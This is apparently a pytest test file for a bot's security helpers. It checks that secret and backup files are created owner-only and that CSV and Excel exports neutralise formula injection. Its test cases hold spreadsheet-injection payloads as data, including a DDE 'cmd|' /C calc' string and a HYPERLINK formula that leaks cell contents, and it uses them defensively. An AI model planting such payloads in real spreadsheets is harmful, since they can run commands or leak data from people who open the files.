"""Secret and backup files are owner-only from the first byte; spreadsheet output never runs a
formula hidden in a name, a ref or a typed answer."""

from __future__ import annotations

import csv
import os
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from analytics.render.files import write_csv_folder, write_xlsx
from analytics.report import Report
from bot.config import _ensure_local_secrets, _read_env_file, load_settings
from bot.ops import backup as backup_module
from bot.security.private_files import write_private_once
from bot.security.spreadsheet import neutralise, neutralise_frame
from tests.cli.helpers import HEADER, import_cohort
from tests.outreach.helpers import add_programme, outreach_env, run_cli


@pytest.fixture
def no_chmod(monkeypatch):
    """A wide-open umask and no chmod at all: a file is 0600 only if it was *created* so."""
    previous = os.umask(0)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("chmod after the fact: the file was readable until then")

    monkeypatch.setattr(os, "chmod", refuse)
    monkeypatch.setattr(Path, "chmod", refuse)
    yield
    os.umask(previous)


def _mode(path: Path) -> str:
    return oct(path.stat().st_mode & 0o777)


def test_generated_secrets_file_is_private_from_the_first_byte(no_chmod, tmp_path):
    env_file = tmp_path / "var" / "tracer.env"
    _ensure_local_secrets(env_file)
    assert _mode(env_file) == "0o600"
    values = _read_env_file(env_file)
    assert len(values["TRACER_SECRET_KEY"]) > 30 and values["TRACER_ENCRYPTION_KEY"]
    assert list(env_file.parent.iterdir()) == [env_file]  # no temporary file left behind


def test_a_second_first_start_keeps_the_secrets_already_written(no_chmod, tmp_path):
    path = tmp_path / "tracer.env"
    assert write_private_once(path, "TRACER_SECRET_KEY=first\n")
    assert not write_private_once(path, "TRACER_SECRET_KEY=second\n")
    assert path.read_text() == "TRACER_SECRET_KEY=first\n" and _mode(path) == "0o600"


def test_sqlite_backup_is_private_from_the_first_byte(no_chmod, tmp_path):
    database = tmp_path / "tracer.db"
    with sqlite3.connect(database) as connection:
        connection.execute("create table answer (id integer)")
    out = tmp_path / "backups" / "tracer.sqlite"
    out.parent.mkdir()
    stale = out.with_name(out.name + ".partial")
    stale.write_text("left by a crash, world-readable")  # umask 0: mode 0666
    backup_module.backup(f"sqlite:///{database}", out)
    assert _mode(out) == "0o600" and not stale.exists()
    with sqlite3.connect(out) as copy:
        assert copy.execute("select name from sqlite_master").fetchall() == [("answer",)]


def test_database_tools_create_their_files_owner_only(no_chmod, tmp_path):
    made = tmp_path / "dump.bin"
    backup_module._run(["sh", "-c", f"echo data > '{made}'"], dict(os.environ), "dump")
    assert _mode(made) == "0o600"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x/?"&A2,"go")', '\'=HYPERLINK("http://x/?"&A2,"go")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Awa Diop", "Awa Diop"),
        ("R-001", "R-001"),
        ("+221771234567", "+221771234567"),  # a phone number cannot run anything
        ("-12.5", "-12.5"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_formula_prefixes_are_neutralised(text, safe):
    assert neutralise(text) == safe


def test_invitation_csv_neutralises_names_and_refs_and_is_private(request, tmp_path):
    env = outreach_env(tmp_path)
    add_programme(load_settings(env), "solar", {})
    lines = [
        "2026A,Solar,2026-01-05,2026-06-30,Thiès,Africa/Dakar,"
        "=2+5,=1+2,+221 77 123 45 67,,f,2001,fr",
        "2026A,,,,,,@SUM(1),-2+3 Ba,,b@example.org,m,1999,fr",
        "2026A,,,,,,R-9,Awa Diop,,c@example.org,f,2000,en",
    ]
    cohort_file = tmp_path / "cohort.csv"
    cohort_file.write_text("\n".join([HEADER, *lines]) + "\n", encoding="utf-8")
    result = import_cohort(env, cohort_file)
    assert result.exit_code == 0, result.output + result.stderr
    request.getfixturevalue("no_chmod")
    out = tmp_path / "invites.csv"
    result = run_cli(env, "invite", "--programme", "solar", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert _mode(out) == "0o600"
    with out.open(newline="", encoding="utf-8") as handle:
        rows = {row["code"]: row for row in csv.DictReader(handle)}
    names = sorted(row["name"] for row in rows.values())
    assert names == ["'-2+3 Ba", "'=1+2", "Awa Diop"]
    refs = sorted(row["trainee_ref"] for row in rows.values())
    assert refs == ["'=2+5", "'@SUM(1)", "R-9"]
    assert "+221771234567" in {row["phone"] for row in rows.values()}
    for row in rows.values():  # what a spreadsheet would evaluate: no cell starts a formula
        assert not any(
            str(v).startswith(("=", "+", "-", "@")) for k, v in row.items() if k != "phone"
        )


def test_report_spreadsheets_neutralise_names(tmp_path):
    table = pd.DataFrame({"cohort": ['=HYPERLINK("x")', "Solar A"], "trainees": [3, -1]})
    report = Report(meta={"programme": "@evil", "as_of": "2026-11-30"}, tables={"waves": table})
    write_xlsx(report, tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["waves"]
    assert [c.value for c in sheet["A"]] == ["cohort", '\'=HYPERLINK("x")', "Solar A"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert [c.value for c in sheet["B"]][1:] == [3, -1]  # numbers stay numbers
    write_csv_folder(report, tmp_path / "csv")
    text = (tmp_path / "csv" / "waves.csv").read_text()
    assert "'=HYPERLINK" in text and "\n=" not in text
    assert "'@evil" in (tmp_path / "csv" / "about.csv").read_text()


def test_neutralise_frame_leaves_the_original_alone():
    frame = pd.DataFrame({"name": ["=1"], "n": [1]})
    safe = neutralise_frame(frame)
    assert safe.loc[0, "name"] == "'=1" and frame.loc[0, "name"] == "=1"
